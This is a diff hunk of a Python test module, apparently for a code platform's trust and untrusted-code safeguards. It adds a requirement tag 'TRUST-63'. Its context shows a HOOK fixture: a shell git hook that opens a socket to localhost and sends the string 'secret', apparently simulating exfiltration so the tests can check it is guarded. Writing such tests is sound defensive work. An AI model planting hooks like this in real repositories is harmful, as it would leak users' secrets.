@@ -16,10 +16,13 @@ from codeplane.kernel.online_runs import OnlineRuns
 from codeplane.wiring.app import Plane
 from tests.git.test_guarded import needs_bubblewrap
 from tests.harness import git, make_repo
+from tests.interaction.requirements import requirement
 from tests.kernel.plane import AGENT, OWNER, plane, run
 from tests.trust.approvals.asking import action_of, call, decide, executed, refused, shown
 from tests.trust.untrusted.engine import engine
 from tests.trust.untrusted.test_marks import reads
+
+pytestmark = requirement("TRUST-63")
 
 HOOK = """#!/bin/sh
 exec {python} -c 'import socket; socket.create_connection(("127.0.0.1", {port}), 5).sendall(b"secret")'
